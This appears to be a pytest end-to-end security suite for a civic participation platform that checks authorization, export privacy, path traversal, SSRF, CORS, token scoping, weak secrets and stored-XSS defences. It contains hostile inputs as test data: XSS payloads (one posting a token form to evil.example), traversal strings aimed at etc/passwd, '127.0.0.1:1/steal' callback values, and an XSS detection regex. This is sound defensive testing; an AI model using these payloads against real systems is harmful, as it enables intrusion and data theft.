"""The holes of the platform that this one follows (INTERLINK, as its source was): each is an attack here; `hole1a` … `hole8` in the names.

1 any account changes grants, teams, decisions, templates · 2 any account reads any process · 3 access by a name · 4 any account
edits the catalogue · 5 names and addresses out of an import · 6 nobody asked who calls · 7 strangers' origins, tokens good
everywhere, a secret that is "secret" · 8 markup that is stored and run.
"""

from __future__ import annotations

import re
from typing import Any

import httpx
import pytest
from pydantic import SecretStr

from interlinker_shared.auth import Role
from interlinker_shared.ids import new_id
from interlinker_shared.settings import ServiceSettings
from tests.security.siege import MALLORY, OLGA, REFUSED, SERVICES, Siege, request_of, role_of, unknown

pytestmark = pytest.mark.e2e

BLOCKS = ("forum", "survey", "ideation")
MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "[click](javascript:alert(1))",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<style>*{display:none}</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=token></form>",
]


def as_member(siege: Siege, method: str, path: str, body: Any = None, **more: Any) -> int:
    """What Mallory, who has an account like any other, gets for trying."""
    kind = {} if body is None else {"json": body}
    return siege.ask(method, path, by=Role.MEMBER, headers={"If-Match": '"1"'}, **kind, **more).status_code


def test_hole1a_no_account_changes_grants_of_others(siege: Siege) -> None:
    scope = siege.process().strip("/").replace("processes/", "process:")
    grant = siege.made("/grants", {"scope": scope, "holder": "anna", "role": "member"})
    assert as_member(siege, "DELETE", f"/grants/{grant['id']}") in REFUSED
    for wanted in (scope, "block"):
        assert as_member(siege, "POST", "/grants", {"scope": wanted, "holder": MALLORY, "role": "owner"}) in REFUSED
    kept = siege.ask("GET", f"/grants?scope={scope}", by=Role.OWNER, subject=OLGA).json()["items"]
    assert grant["id"] in {one["id"] for one in kept}
    assert MALLORY not in {one["holder"] for one in kept}


def test_hole1b_no_account_adds_people_to_teams_of_others(siege: Siege) -> None:
    team = siege.made("/teams", {"name": "Helpers", "stakeholder": "citizens"})["id"]
    assert as_member(siege, "PUT", f"/teams/{team}/members/{MALLORY}", {"lead": True}) in REFUSED
    assert as_member(siege, "DELETE", f"/teams/{team}/members/{OLGA}") in REFUSED
    assert as_member(siege, "PATCH", f"/teams/{team}", {"name": "Mine"}) in REFUSED
    assert as_member(siege, "DELETE", f"/teams/{team}") in REFUSED


def test_hole1c_no_account_decides_for_those_who_are_named(siege: Siege) -> None:
    process = siege.process()
    decided = {"option": "here", "reason": "Because I can."}
    assert as_member(siege, "POST", f"{process}/tasks/where/decision", decided) in REFUSED
    assert siege.ask("GET", process).json()["state"] == "running"


def test_hole1d_no_account_changes_the_course_of_a_process(siege: Siege) -> None:
    process = siege.process()
    assert as_member(siege, "POST", f"{process}/cancel", {"reason": "No."}) in REFUSED
    for verb in ("close", "retry"):
        assert as_member(siege, "POST", f"{process}/tasks/where/{verb}") in REFUSED
    template = {"id": "walk", "version": "2.0.0", "title": {"en": "Mine"}, "phases": []}
    assert as_member(siege, "POST", "/templates", template) in REFUSED


def test_hole2a_no_account_reads_the_inside_of_a_process(siege: Siege) -> None:
    process = siege.process()
    assert as_member(siege, "GET", f"{process}/audit") in REFUSED
    scope = process.strip("/").replace("processes/", "process:")
    assert as_member(siege, "GET", f"/grants?scope={scope}") in REFUSED
    for subject in (OLGA, "anna"):
        assert as_member(siege, "GET", f"/subjects/{subject}") in REFUSED


def test_hole2b_nothing_that_is_taken_away_holds_an_address(siege: Siege) -> None:
    board = siege.board()
    siege.made(f"{board}/topics", {"title": "A bench", "text": "Under the lime tree."})
    paths = [f"{board}/export?format=csv", "/i/forum/changes?after=0", "/i/forum/events?after=0", "/events?after=0"]
    for path in (*paths, "/audit", siege.process() + "/audit"):
        answer = siege.ask("GET", path, by=Role.OWNER, subject=OLGA)
        assert answer.is_success, f"{path}: {answer.text}"
        assert not re.search(r"[\w.]+@[\w.]+\.\w+", answer.text)


def test_hole3a_nobody_lets_herself_in(siege: Siege) -> None:
    hidden = siege.board(opened=False)
    scope = f"asset:{hidden.rpartition('/')[2]}"
    for where in ("", "/i/forum"):
        for role in ("observer", "member", "owner"):
            body = {"scope": scope, "holder": MALLORY, "role": role}
            assert as_member(siege, "POST", f"{where}/grants", body) in {*REFUSED, 422}
    assert as_member(siege, "GET", hidden) == 404  # a draft is for moderators


def test_hole3b_two_teams_of_one_name_share_nothing(siege: Siege) -> None:
    first, second = (siege.made("/teams", {"name": "Neighbours", "stakeholder": "citizens"})["id"] for _ in range(2))
    member = {"lead": False}
    put = siege.ask("PUT", f"/teams/{second}/members/{MALLORY}", by=Role.OWNER, subject=OLGA, json=member)
    assert put.is_success, put.text
    scope = siege.process().strip("/").replace("processes/", "process:")
    siege.made("/grants", {"scope": scope, "holder": f"team:{first}", "role": "owner"})
    siege.made(
        "/grants", {"scope": scope, "holder": "team:Neighbours", "role": "owner"}
    )  # names nobody: a team has an id
    assert siege.ask("GET", f"/grants/mine?scope={scope}", by=Role.MEMBER).json()["role"] == "member"


def test_hole4_no_account_edits_the_catalogue(siege: Siege) -> None:
    before = siege.ask("GET", "/catalogue", at="registry").json()
    for one, document in siege.operations("registry"):
        if one.method != "get" and one.path.startswith(("/catalogue", "/instances")):
            path = one.path.replace("{service}", "forum").replace("{instance_id}", "forum-main")
            more = request_of(one, document)
            answer = siege.ask(one.method, path, by=Role.MEMBER, at="registry", **more)
            assert answer.status_code in REFUSED, f"{one}: {answer.status_code}"
    assert siege.ask("GET", "/catalogue", at="registry").json() == before


def test_hole5a_no_name_of_a_caller_becomes_a_path(siege: Siege) -> None:
    for climb in ("../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "....//", "%252e%252e%252f"):
        for prefix in ("/i/forum/static/", "/i/forum/static/kit/", "/i/", "/static/kit/", "/schemas/"):
            answer = siege.ask("GET", f"{prefix}{climb * 6}etc/passwd")
            assert answer.status_code in {400, 404}
            assert "root:" not in answer.text


def test_hole5b_no_address_in_an_import_is_called(siege: Siege) -> None:
    board = siege.board()
    item = {"id": "1", "title": "x", "text": "y", "language": "en"}
    for field in ("url", "base_url", "callback", "source"):
        body = {"handover": "h", "items": [item], field: "http://127.0.0.1:1/steal"}
        answer = siege.ask("POST", f"{board}/imports", by=Role.MODERATOR, subject=OLGA, json=body)
        assert answer.status_code == 422
    task = {"id": "t", "uses": "forum", "url": "http://127.0.0.1:1/steal"}
    template = {"id": "evil", "version": "1.0.0", "title": {"en": "x"}, "phases": [{"id": "p", "tasks": [task]}]}
    assert siege.ask("POST", "/templates", by=Role.OWNER, json=template).status_code == 422


@pytest.mark.parametrize("service", SERVICES)
def test_hole6a_everything_that_is_not_public_asks_who_calls(siege: Siege, service: str) -> None:
    found = [(one, document) for one, document in siege.operations(service) if role_of(one) is not Role.PUBLIC]
    assert len(found) > 15
    for one, document in found:
        answer = siege.ask(one.method, unknown(one), at=service, **request_of(one, document))
        assert answer.status_code in {401, 404}, f"{one}: {answer.status_code}"  # 404: people sign in at the door


def test_hole6b_reading_changes_nothing(siege: Siege) -> None:
    board = siege.board()
    before = siege.ask("GET", "/i/forum/events?after=0&limit=1000", by=Role.OWNER).json()["items"]
    for one, _ in siege.operations("forum"):
        if one.method == "get":
            path = one.path.replace("{asset_id}", board.rpartition("/")[2])
            siege.ask("GET", path.replace("{", "").replace("}", ""), by=Role.OWNER, subject=OLGA, at="forum")
    assert siege.ask("GET", "/i/forum/events?after=0&limit=1000", by=Role.OWNER).json()["items"] == before


def test_hole6c_no_socket_is_open_beside_http(siege: Siege) -> None:
    upgrade = {"Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13"}
    upgrade["Sec-WebSocket-Key"] = "dGhlIHNhbXBsZSBub25jZQ=="
    for service in SERVICES:
        for path in ("/ws", "/socket.io/", "/events", "/i/forum/boards"):
            assert siege.ask("GET", path, at=service, headers=upgrade).status_code != 101


def test_hole7a_no_stranger_page_reads_an_answer(siege: Siege) -> None:
    for origin in ("https://evil.example", "null", "https://portal.example.org.evil.example"):
        for path in ("/processes", "/i/forum/boards"):
            for method in ("GET", "OPTIONS"):
                asked = {"Origin": origin, "Access-Control-Request-Method": "POST"}
                assert "access-control-allow-origin" not in siege.ask(method, path, headers=asked).headers


@pytest.mark.parametrize("block", BLOCKS)
def test_hole7b_a_token_is_good_for_one_service(siege: Siege, block: str) -> None:
    for other in (*SERVICES, "nobody"):
        token = siege.token(Role.OWNER, audience=other)
        assert siege.ask("GET", "/audit", by=token, at=block).status_code == (200 if other == block else 401)


def test_hole7c_a_secret_that_is_secret_starts_nothing() -> None:
    for weak in ("secret", "changeme", "x" * 31):
        with pytest.raises(ValueError, match="at least 32 characters"):
            ServiceSettings(secret=SecretStr(weak)).signing_secret("forum")


@pytest.mark.parametrize("markup", MARKUP)
def test_hole8_markup_of_a_participant_is_never_run(siege: Siege, markup: str) -> None:
    board = siege.board()
    topic = siege.made(f"{board}/topics", {"title": f"Look {markup}"[:200], "text": f"See here: {markup}"})
    for path in (f"/i/forum/topics/{topic['id']}/view", f"{board}/view"):
        page = siege.ask("GET", path, by=Role.MEMBER, headers={"Accept": "text/html"})
        assert not active(page), page.text


def active(page: httpx.Response) -> list[str]:
    """What of a page a browser would run or follow, beside our own scripts and forms."""
    assert "script-src 'self'" in page.headers["Content-Security-Policy"]
    # What a label says is no markup up to its quote; what breaks out of it stays to be judged.
    tags = re.findall(r"<[a-z][^>]*>", re.sub(r'\saria-label="[^"<>]*"', "", page.text), re.IGNORECASE)
    evil = re.compile(r"\son\w+\s*=|javascript:|data:text|srcdoc|evil\.example|^<(svg|style|iframe)", re.IGNORECASE)
    inline = [tag for tag in tags if tag.startswith("<script") and not re.search(r'\ssrc="[^"]*static/', tag)]
    return [tag for tag in tags if evil.search(tag)] + inline


def test_hole8b_a_name_of_a_thing_is_text(siege: Siege) -> None:
    team = siege.made("/teams", {"name": "<b>Us</b>", "stakeholder": "citizens"})
    assert siege.ask("GET", f"/teams/{team['id']}").headers["Content-Type"] == "application/json"
    board = siege.board(title="<b onmouseover=alert(1)>Us</b>")
    assert "<b onmouseover" not in siege.ask("GET", f"{board}/view").text
    assert siege.ask("GET", f"/i/forum/boards/{new_id()}/view?x=<script>").text.count("<script>") == 0
